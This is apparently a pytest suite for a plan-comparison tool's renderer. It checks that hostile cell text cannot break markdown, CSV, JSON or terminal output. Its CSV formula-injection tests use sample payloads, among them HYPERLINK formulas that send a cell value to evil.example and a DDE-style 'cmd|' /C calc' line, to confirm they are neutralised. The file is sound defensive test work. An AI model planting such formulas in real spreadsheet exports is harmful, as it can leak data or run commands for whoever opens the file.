"""The one renderer: every format prints the same cells, and plan text can never break a format."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from plancompare.output.render import clean_cell, csv_cell, markdown_escape, render, render_text, to_csv, to_json, to_markdown
from plancompare.output.table import Column, Table
from plancompare.plans.textnorm import strip_control
from support import markdown_cells

HOSTILE = [
    "a | b",
    "*not bold* and _not italic_",
    "<script>alert(1)</script>",
    "[bold]not rich markup[/bold]",
    "`code` and ``more``",
    "line one\nline two\r\nline three",
    "[a link](http://example.com) ![img](x.png)",
    "&amp; &#36; AT&T",
    "back\\slash \\| end\\",
    "~~struck~~ # not a heading",
]


def _table(texts: list[str]) -> Table:
    columns = (Column("id", "Id"), Column("text", "Text"), Column("count", "Count", numeric=True))
    rows = tuple((f"item.{n}", text, n) for n, text in enumerate(texts))
    return Table(title="Hostile | *table*", columns=columns, rows=rows)


def test_markdown_table_shape_and_cells_survive_hostile_text() -> None:
    markdown = to_markdown(_table(HOSTILE))
    cells = markdown_cells(markdown)
    assert cells[0] == ["Id", "Text", "Count"]
    assert len(cells) == len(HOSTILE) + 1
    assert all(len(row) == 3 for row in cells)
    assert [row[1] for row in cells[1:]] == [" ".join(text.split()) for text in HOSTILE]
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
    assert markdown.startswith("## Hostile \\| \\*table\\*\n\n| Id | Text | Count |\n| --- | --- | ---: |\n")


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp"))), min_size=1, max_size=4))
def test_markdown_round_trips_arbitrary_text(texts: list[str]) -> None:
    cells = markdown_cells(to_markdown(_table(texts)))
    assert len(cells) == len(texts) + 1 and all(len(row) == 3 for row in cells)
    # Markdown trims cells and line breaks become spaces: compare modulo whitespace.
    assert [" ".join(row[1].split()) for row in cells[1:]] == [" ".join(text.split()) for text in texts]


BLOCK_MARKUP = ["# ", "## ", "1. ", "2) ", "+ ", "- ", "* ", "> ", "===", "---", "    ", "\t", "```", "<div>", " #",
                "\n# ", "\n1. ", "\n- ", "\n> ", "\n===", "\n---", "\n    code", "\r\n+ "]
LINE_TEXT = st.lists(st.sampled_from(BLOCK_MARKUP) | st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=8),
                     max_size=5).map("".join).filter(lambda text: strip_control(text).split())


@settings(max_examples=300, deadline=None)
@given(LINE_TEXT, LINE_TEXT)
def test_markdown_title_and_caption_stay_a_heading_and_a_paragraph(title: str, caption: str) -> None:
    table = Table(title=title, columns=(Column("text", "Text"),), rows=(("x",),), caption=caption)
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(to_markdown(table))
    opened = [(token.type, token.tag) for token in tokens if token.level == 0 and token.nesting == 1]
    assert opened == [("heading_open", "h2"), ("table_open", "table"), ("paragraph_open", "p")]
    inlines = [token for token in tokens if token.type == "inline"]
    for inline, text in ((inlines[0], title), (inlines[-1], caption)):
        assert [child.type for child in inline.children] == ["text"] * len(inline.children)
        shown = "".join(child.content for child in inline.children)
        assert " ".join(shown.split()) == " ".join(strip_control(text).split())


def test_markdown_escape_is_minimal_for_ordinary_text() -> None:
    assert markdown_escape("Clean & Green (2023): 17.4 %") == "Clean & Green (2023): 17.4 %"


def test_csv_round_trips_hostile_text_with_a_key_header() -> None:
    table = _table(HOSTILE)
    rows = list(csv.reader(io.StringIO(to_csv(table), newline="")))
    assert rows[0] == ["id", "text", "count"]
    assert [row[1] for row in rows[1:]] == [text.replace("\r\n", "\n") for text in HOSTILE]
    assert [row[2] for row in rows[1:]] == [str(n) for n in range(len(HOSTILE))]


def test_json_shape_is_pinned() -> None:
    table = Table(
        title="T",
        columns=(Column("council", "Council"), Column("items", "Items", numeric=True), Column("note", "Note")),
        rows=(("coventry", 3, None), ("sandwell", 4, "x")),
        caption="c",
    )
    assert json.loads(to_json(table)) == {
        "schema_version": 2,
        "title": "T",
        "columns": [
            {"key": "council", "header": "Council"},
            {"key": "items", "header": "Items"},
            {"key": "note", "header": "Note"},
        ],
        "rows": [
            {"council": "coventry", "items": 3, "note": None},
            {"council": "sandwell", "items": 4, "note": "x"},
        ],
        "caption": "c",
    }


def test_terminal_text_prints_markup_literally_and_strips_control_characters() -> None:
    table = _table(["[bold]loud[/bold]", "red\x1b[31m alert\x07\x1b]0;title\x07"])
    text = render_text(table, width=120)
    assert "[bold]loud[/bold]" in text
    assert "red alert" in text
    assert "\x1b" not in text and "\x07" not in text


def test_control_characters_are_stripped_from_every_format() -> None:
    table = _table(["bell\x07 and \x1b[2Jclear"])
    for fmt in ("markdown", "csv", "json", "table"):
        output = render(table, fmt)
        assert "\x07" not in output and "\x1b" not in output, fmt
        assert "bell and clear" in output, fmt


def test_grouped_table_renders_as_a_tree_with_every_row() -> None:
    table = Table(
        title="Plan",
        columns=(Column("section", "Section"), Column("kind", "Kind"), Column("text", "Text")),
        rows=(("One", "commitment", "We will A."), ("One", "outcome", "B happens."), ("Two", "commitment", "We will C.")),
        group_by="section",
    )
    assert render_text(table, width=60) == (
        "Plan\n"
        "├── One\n"
        "│   ├── commitment  We will A.\n"
        "│   └── outcome  B happens.\n"
        "└── Two\n"
        "    └── commitment  We will C.\n"
    )


def test_table_rejects_ragged_rows() -> None:
    import pytest

    with pytest.raises(ValueError, match="has 1 cells for 2 columns"):
        Table(title="x", columns=(Column("a", "A"), Column("b", "B")), rows=(("only",),))


def test_terminal_row_limit_shows_the_first_rows_and_counts_the_rest() -> None:
    rows = tuple((f"council-{n}", n) for n in range(7))
    table = Table(title="T", columns=(Column("council", "Council"), Column("items", "Items", numeric=True)),
                  rows=rows, terminal_row_limit=3)
    text = render_text(table, width=120)
    assert [f"council-{n}" in text for n in range(7)] == [True] * 3 + [False] * 4
    assert "Showing the first 3 of 7 rows (--format csv, markdown or json lists them all)." in " ".join(text.split())
    assert not any(line.startswith("council-") and "Showing" in line for line in text.splitlines())
    assert len(markdown_cells(to_markdown(table))) == 8  # header and every row
    assert len(list(csv.reader(io.StringIO(to_csv(table))))) == 8


# -- CSV formula injection --------------------------------------------------------------------------

# OWASP's triggers, plus a line feed: clean_cell turns a carriage return into one, and a spreadsheet
# skips a leading line break just as it skips a tab.
FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n"]


def _csv_cells(table: Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO(to_csv(table), newline="")))


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
def test_csv_neutralises_a_cell_starting_with_each_formula_trigger(trigger: str) -> None:
    payload = trigger + 'HYPERLINK("http://evil.example/?x="&A1,"Click")'
    rows = _csv_cells(_table([payload]))
    expected_text = clean_cell(payload)
    assert rows[1][1] == "'" + expected_text
    assert rows[1][1].startswith("'") and rows[1][1][1:] == expected_text


def test_csv_hyperlink_formula_is_text_not_a_live_formula() -> None:
    text = to_csv(_table(['=HYPERLINK("http://evil.example","Click")']))
    assert text.splitlines()[1] == 'item.0,"\'=HYPERLINK(""http://evil.example"",""Click"")",0'


def test_csv_numbers_stay_numbers_and_ordinary_text_is_untouched() -> None:
    columns = (Column("text", "Text"), Column("score", "Score", numeric=True), Column("gap", "Gap", numeric=True))
    table = Table(title="T", columns=columns, rows=(("a = b", -3, -0.25), ("-12", 4, 1.5), ("-1.5", 0, -2),
                                                     ("x-ray @home", 1, 2), ("", 1, 1)))
    assert to_csv(table) == "text,score,gap\na = b,-3,-0.25\n-12,4,1.5\n-1.5,0,-2\nx-ray @home,1,2\n,1,1\n"


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("- a bullet", "'- a bullet"), ("-5.2 %", "'-5.2 %"), ("-7", "-7"), ("-0.25", "-0.25"),
    (" =1", " =1"), ("a=1", "a=1"), (-7, -7), (3.5, 3.5), (None, None), ("'quoted", "'quoted"),
])
def test_csv_cell(cell, safe) -> None:
    assert csv_cell(cell) == safe


def test_csv_export_end_to_end_neutralises_a_formula_in_a_plan(runner, plan_copy) -> None:
    from plancompare.cli.main import cli

    plan_file = plan_copy / "southmoor.yaml"
    formula = '=HYPERLINK("http://evil.example/steal","Click")'
    plan_file.write_text(plan_file.read_text(encoding="utf-8").replace(
        "We will plant 20,000 trees across the district.", json.dumps(formula)), encoding="utf-8")
    result = runner.invoke(cli, ["--plans-dir", str(plan_copy), "show", "southmoor", "--format", "csv"])
    assert result.exit_code == 0, result.stderr
    row = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["id"] == "southmoor.climate.commitment.1")
    assert row["text"] == "'" + formula
